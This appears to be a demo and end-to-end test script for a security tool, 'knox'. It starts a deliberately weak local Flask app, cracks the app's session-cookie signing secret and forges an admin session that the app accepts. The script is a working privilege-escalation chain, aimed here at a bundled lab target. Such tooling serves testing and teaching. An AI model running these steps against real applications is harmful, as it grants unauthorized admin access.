#!/usr/bin/python3
"""knox end to end on a bundled target: start a real Flask app on 127.0.0.1, log in, and let knox
read the session cookie, judge its attributes, decode it, crack its signing secret and forge an
admin session that the app accepts. Exits non-zero if any step does not go as described.

usage: examples/demo.py [path/to/knox]      (default: build/knox)"""
import json
import os
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
KNOX = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "build", "knox")


def knox(*args):
    print("$ knox " + " ".join(a if " " not in a and "{" not in a else repr(a) for a in args))
    r = subprocess.run([KNOX, *args], capture_output=True, text=True, timeout=60)
    sys.stdout.write(r.stdout)
    sys.stderr.write(r.stderr)
    return r


def request(url, data=None, cookie=None):
    req = urllib.request.Request(url, data=urllib.parse.urlencode(data).encode() if data else None)
    if cookie:
        req.add_header("Cookie", cookie)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.headers.get_all("Set-Cookie") or [], resp.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, [], ""


def expect(condition, what):
    if not condition:
        sys.exit(f"demo: FAILED: {what}")


def main():
    app = subprocess.Popen(["/usr/bin/python3", os.path.join(HERE, "flask_weak_secret_app.py")],
                           stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        port = int(app.stdout.readline())
        base = f"http://127.0.0.1:{port}"
        print(f"== target: a real Flask {base} app (examples/flask_weak_secret_app.py)\n")

        status, set_cookies, _ = request(base + "/login", {"username": "alice", "password": "wonderland"})
        expect(status == 200 and set_cookies, "login sets a cookie")
        set_cookie = set_cookies[0]
        cookie = set_cookie.split(";", 1)[0].split("=", 1)[1]

        print("== 1. the Set-Cookie header, read the way a browser reads it")
        r = knox("cookie", "parse", "--url", base + "/login", set_cookie)
        expect(r.returncode == 0 and "secure: no" in r.stdout, "cookie parse shows Secure missing")

        print("\n== 2. what the session cookie reveals without any key")
        r = knox("token", "decode", cookie)
        expect(r.returncode == 0 and "format:    flask" in r.stdout and '"role":"user"' in r.stdout,
               "decode shows a Flask session with the role")

        print("\n== 3. its signing secret, from knox's bundled list of known defaults")
        r = knox("crack", cookie, "--json", "--show-secret")
        found = json.loads(r.stdout)
        expect(r.returncode == 0 and found["found"] and found["resigned_identical"], "secret found")

        print("\n== 4. forging an admin session with it")
        forged = knox("token", "sign", "--format", "flask", "--secret", found["secret"],
                      '{"role":"admin","user":"alice"}').stdout.strip()
        status, _, body = request(base + "/admin", cookie="session=" + forged)
        print(f"GET /admin with the forged cookie -> {status} {body.strip()}")
        expect(status == 200 and "admin area" in body, "the app accepts the forged admin session")
        status, _, _ = request(base + "/admin", cookie="session=" + cookie)
        expect(status == 403, "the genuine user cookie is not admin")

        print("\ndemo: knox read the cookie, cracked the secret and forged an admin session")
    finally:
        app.terminate()
        app.wait(timeout=10)


if __name__ == "__main__":
    main()
